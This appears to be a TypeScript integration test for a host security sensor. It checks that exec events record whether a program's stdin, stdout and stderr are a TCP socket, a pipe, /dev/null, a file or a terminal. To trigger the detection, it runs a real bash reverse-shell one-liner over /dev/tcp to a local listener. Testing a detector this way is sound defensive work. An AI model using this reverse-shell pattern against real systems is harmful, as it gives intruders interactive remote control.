/**
 * fds 0-2 at exec on the live kernel: what each new program's stdin, stdout and stderr are, read by
 * the exec probe from the task's fd table, for real processes under the real sensor: an interactive
 * shell on a TCP connection, the two ends of a pipe, /dev/null, a file and a terminal.
 */
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { pino } from 'pino';
import { FLUSH_MS, startSensor, type RunningSensor } from '@vigil/sensor';
import type { EventV1 } from '@vigil/schema';
import { freePort, tempDir, waitFor } from '../support/harness.js';

type ExecEvent = Extract<EventV1, { kind: 'exec' }>;

/** Marks this run's programs in their argv, so that other processes on the host are told apart. */
const tag = `vigil-stdio-${process.pid}`;
let sensor: RunningSensor;
let events: EventV1[] = [];
let listenerPort = 0;
let shellPid = 0;
let shellLocalPort = 0;
let fileOut = '';

/**
 * `bash -i` with fds 0-2 on a connection to a listener in this process: the listener asks it for
 * its pid and tells it to exit.
 */
async function shellOnSocket(): Promise<void> {
  const server = createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  listenerPort = (server.address() as AddressInfo).port;
  const accepted = once(server, 'connection') as Promise<[Socket]>;
  // bash opens the socket itself, as a reverse shell does, and execs `bash -i` on it.
  const sh = spawn('/bin/bash', ['-c', `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}; exec bash -i <&3 >&3 2>&1 3>&-`], {
    stdio: 'ignore',
  });
  const [conn] = await accepted;
  shellLocalPort = conn.remotePort!;
  let out = '';
  conn.on('data', (b: Buffer) => {
    out += b.toString();
  });
  conn.write(`echo VIGILPID=$$\n`);
  await waitFor('the shell answers', () => /VIGILPID=(\d+)/.test(out), 10_000);
  shellPid = Number(/VIGILPID=(\d+)/.exec(out)![1]);
  conn.write('exit\n');
  await once(sh, 'exit');
  server.close();
}

before(async () => {
  const dir = tempDir('stdio');
  const spoolDir = join(dir, 'spool');
  fileOut = join(dir, 'out.txt');
  sensor = await startSensor({
    nats: { servers: `nats://127.0.0.1:${await freePort()}`, reconnect: false },
    probes: ['exec', 'proc'],
    spoolDir,
    log: pino({ level: 'silent' }),
  });
  await waitFor('probes running', () => sensor.heartbeat().probes.every((p) => p.state === 'running'), 90_000);

  await shellOnSocket();
  const run = (args: string[], stdio: 'ignore' | 'pipe' = 'pipe') =>
    spawnSync(args[0]!, args.slice(1), { encoding: 'utf8', timeout: 10_000, stdio });
  // a | b: the writer's fd 1 and the reader's fd 0 are one pipe.
  assert.equal(run(['/bin/sh', '-c', `/bin/echo ${tag}-pipe | /bin/grep -c ${tag}-reader`]).status, 1);
  // stdio to /dev/null, and stdout to a file.
  assert.equal(run(['/bin/true', `${tag}-null`], 'ignore').status, 0);
  assert.equal(run(['/bin/sh', '-c', `exec /bin/echo ${tag}-file >${fileOut}`]).status, 0);
  // A terminal: script(1) runs the program on a new pty.
  const tty = run(['/usr/bin/script', '-qec', `/bin/true ${tag}-tty`, '/dev/null']);
  assert.equal(tty.status, 0, tty.stderr);

  await sleep(4 * FLUSH_MS);
  await sensor.stop();
  events = readdirSync(spoolDir)
    .sort()
    .flatMap((f) =>
      readFileSync(join(spoolDir, f), 'utf8')
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as EventV1),
    );
});

const seen = () =>
  `${events.length} events; lost ${sensor.counters.lostEvents}, rejects ${JSON.stringify(sensor.counters.rejectsObject())}`;

/** The successful exec whose argv holds `arg`. */
function execWith(arg: string): ExecEvent {
  const e = events.find((x): x is ExecEvent => x.kind === 'exec' && x.exec.ret === 0 && x.exec.argv.includes(arg));
  assert.ok(e, `an exec with ${arg} in its argv (${seen()})`);
  return e;
}

test('bash -i on a TCP connection: fds 0, 1 and 2 are tcp with the listener as their peer', () => {
  const e = events.find(
    (x): x is ExecEvent =>
      x.kind === 'exec' && x.proc.pid === shellPid && x.exec.ret === 0 && x.exec.argv.join(' ') === 'bash -i',
  );
  assert.ok(e, `the shell's exec was seen (${seen()})`);
  assert.equal(e.exec.stdio?.length, 3);
  for (const s of e.exec.stdio!) {
    assert.equal(s.type, 'tcp', `fd ${s.fd}`);
    assert.equal(s.family, 'ipv4');
    assert.deepEqual(s.remote, { addr: '127.0.0.1', port: listenerPort });
    assert.deepEqual(s.local, { addr: '127.0.0.1', port: shellLocalPort });
  }
  assert.deepEqual(
    e.exec.stdio!.map((s) => s.fd),
    [0, 1, 2],
  );
  assert.equal(e.exec.stdio![0]!.ino, e.exec.stdio![1]!.ino, 'one socket');
});

test("a | b: the writer's fd 1 and the reader's fd 0 are one pipe", () => {
  const writer = execWith(`${tag}-pipe`).exec.stdio;
  const reader = execWith(`${tag}-reader`).exec.stdio;
  assert.equal(writer?.[1]?.type, 'pipe');
  assert.equal(reader?.[0]?.type, 'pipe');
  assert.equal(writer[1].ino, reader[0].ino);
});

test('stdio to /dev/null is char; stdout redirected to a file is file', () => {
  assert.deepEqual(
    execWith(`${tag}-null`).exec.stdio?.map((s) => s.type),
    ['char', 'char', 'char'],
  );
  const file = execWith(`${tag}-file`).exec.stdio;
  assert.equal(file?.[1]?.type, 'file');
});

test('a program on a pty (script -c) has a tty on fds 0-2', () => {
  assert.deepEqual(
    execWith(`${tag}-tty`).exec.stdio?.map((s) => s.type),
    ['tty', 'tty', 'tty'],
  );
});
